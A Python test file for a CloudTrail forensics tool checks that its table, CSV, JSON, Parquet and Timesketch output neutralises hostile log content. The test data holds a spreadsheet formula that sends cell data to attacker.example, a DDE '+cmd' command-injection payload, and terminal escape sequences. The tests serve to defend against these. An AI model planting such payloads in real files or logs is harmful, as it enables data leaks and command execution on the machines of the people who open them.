"""Output formats round-trip, and hostile log content comes out neutralised."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timezone

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from trailforensics.output.formats import FORMATS, OutputError, render_rich, to_bytes, write_table
from trailforensics.output.sanitize import csv_safe, terminal_safe

UTC = timezone.utc
HOSTILE_UA = "\x1b[2J\x1b[31mevil\x07 agent\r\n"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def sample_table() -> pa.Table:
    return pa.table(
        {
            "event_time": pa.array(
                [
                    datetime(2026, 3, 10, 2, 13, 7, tzinfo=UTC),
                    datetime(2026, 3, 10, 2, 13, 8, 123456, tzinfo=UTC),
                ],
                pa.timestamp("us", tz="UTC"),
            ),
            "actor": ["arn:aws:iam::1:user/a", "arn:aws:iam::1:user/b"],
            "event_name": ["ListUsers", "GetObject"],
            "user_agent": [HOSTILE_UA, "+cmd|' /C calc'!A0"],
            "request": [FORMULA, None],
            "count": [1, 2],
            "ok": [True, None],
        }
    )


def test_table_escapes_control_characters() -> None:
    out = to_bytes(sample_table(), "table").decode()
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b[2J" in out
    assert "2 rows" in out
    assert "2026-03-10T02:13:07Z" in out


def test_narrow_table_shrinks_long_columns_and_keeps_times_and_short_values_whole() -> None:
    n = 3
    table = pa.table(
        {
            "event_time": pa.array(
                [datetime(2026, 3, 10, 2, 13, i, tzinfo=UTC) for i in range(n)], pa.timestamp("us", tz="UTC")
            ),
            "trail": ["arn:aws:cloudtrail:eu-west-1:483920175562:trail/metrolio-audit-trail"] * n,
            "severity": ["high", "low", "critical"],
            "finding": ["logging-stopped", "single-region", "kms-removed"],
            "detail": ["logging stopped for 50m 46s (until StartLogging at 2026-03-10T03:32:05Z)"] * n,
            "actor": ["arn:aws:iam::483920175562:user/svc-backup-sync"] * n,
        }
    )
    buf = io.StringIO()
    render_rich(table, buf)  # not a terminal: 240 columns, wide enough
    assert "arn:aws:iam::483920175562:user/svc-backup-sync" in buf.getvalue()
    narrow = 100
    buf = io.StringIO()
    render_rich(table, buf, width=narrow)
    lines = buf.getvalue().splitlines()
    assert max(len(line) for line in lines) <= narrow
    out = buf.getvalue()
    for whole in ("2026-03-10T02:13:02Z", "critical", "logging-stopped", "single-region", "kms-removed"):
        assert whole in out
    assert "arn:aws:iam::483920175562:user/svc-backup-sync" not in out  # the long columns gave way


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "timesketch", "table"])
def test_no_format_sends_raw_controls_to_a_terminal(fmt: str) -> None:
    when = pa.array([datetime(2026, 3, 10, 2, 13, 7, tzinfo=UTC)], pa.timestamp("us", tz="UTC"))
    table = pa.table({"event_time": when, "user_agent": [HOSTILE_UA + "\u202e\x9b2J"], "n": [-5]})
    term = _Terminal()
    write_table(table, fmt, stream=term)
    shown = term.getvalue()
    if fmt == "table":  # Rich's own styling (bold headers) is the only escape sequence allowed
        shown = re.sub("\x1b\\[[0-9;]*m", "", shown)
    assert not any(ch in shown for ch in "\x1b\x07\r\u202e\x9b"), repr(shown)
    if fmt in ("json", "jsonl", "timesketch"):  # still valid JSON with the same values
        first = shown.strip().lstrip("[").rstrip("]").strip().splitlines()[0]
        assert json.loads(first)["user_agent"] == HOSTILE_UA + "\u202e\x9b2J"
    if fmt == "csv":
        assert shown.splitlines()[1].endswith(",-5")  # a negative number is not a formula


def test_timesketch_needs_times() -> None:
    with pytest.raises(OutputError, match="time"):
        write_table(pa.table({"x": [1]}), "timesketch", stream=io.StringIO())
    when = pa.array([datetime(2026, 3, 10, tzinfo=UTC), None], pa.timestamp("us", tz="UTC"))
    buf = io.StringIO()
    write_table(pa.table({"event_time": when, "x": [1, 2]}), "timesketch", stream=buf)
    lines = [json.loads(line) for line in buf.getvalue().splitlines()]
    assert [line["datetime"] for line in lines] == ["2026-03-10T00:00:00Z"]  # the row without a time is left out


def test_csv_neutralises_formulas_and_round_trips() -> None:
    text = to_bytes(sample_table(), "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["request"] == "'" + FORMULA
    assert rows[1]["user_agent"].startswith("'+cmd")
    assert rows[0]["event_time"] == "2026-03-10T02:13:07Z"
    assert rows[1]["event_time"] == "2026-03-10T02:13:08.123456Z"
    assert rows[0]["user_agent"] == HOSTILE_UA  # not a formula: kept exactly (CSV quotes it)
    for cell in text.splitlines()[1:]:
        assert not cell.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_values_exact(fmt: str) -> None:
    text = to_bytes(sample_table(), fmt).decode()
    rows = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
    assert rows[0]["user_agent"] == HOSTILE_UA
    assert rows[0]["request"] == FORMULA
    assert rows[1]["event_time"] == "2026-03-10T02:13:08.123456Z"
    assert rows[0]["ok"] is True and rows[1]["request"] is None


def test_parquet_round_trip(tmp_path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "x.parquet"
    write_table(sample_table(), "parquet", out)
    assert pq.read_table(out).equals(sample_table())
    with pytest.raises(OutputError):
        write_table(sample_table(), "parquet", None)


def test_timesketch_lines() -> None:
    lines = [json.loads(line) for line in to_bytes(sample_table(), "timesketch").decode().splitlines()]
    assert lines[0]["datetime"] == "2026-03-10T02:13:07Z"
    assert lines[0]["timestamp_desc"] == "Event Time"
    assert lines[0]["message"] == "arn:aws:iam::1:user/a ListUsers"
    assert lines[0]["user_agent"] == HOSTILE_UA


def test_every_format_is_listed() -> None:
    assert FORMATS == ("table", "csv", "json", "jsonl", "parquet", "timesketch")


def test_sanitizers() -> None:
    assert terminal_safe("a\x1b[0mb\u202ec") == "a\\x1b[0mb\\u202ec"
    assert terminal_safe("tab\tnew\nline") == "tab\\tnew\\nline"
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe(bad).startswith("'")
    assert csv_safe("arn:aws:iam::1:user/x") == "arn:aws:iam::1:user/x"


def test_a_terminal_sink_lets_nothing_unsafe_through_whoever_rendered_the_text() -> None:
    from trailforensics.output.sink import Sink

    term = _Terminal()
    sink = Sink(term)
    assert sink.terminal
    sink.write("raw\x1b]0;x\x07\u202e\x9b\ttab\n")  # a renderer that forgot to escape
    sink.json({"ua": HOSTILE_UA + "\u202e\x85"})
    sink.line("line\nwith\x1b[2J")
    shown = term.getvalue()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", shown), repr(shown)
    assert json.loads(shown.splitlines()[1] + shown.splitlines()[2] + shown.splitlines()[3])["ua"] == (
        HOSTILE_UA + "\u202e\x85"
    )
    piped = io.StringIO()
    Sink(piped).json({"ua": "\u202e\x85"}, indent=False)
    assert piped.getvalue() == '{"ua":"\u202e\x85"}\n'  # a pipe gets the exact value
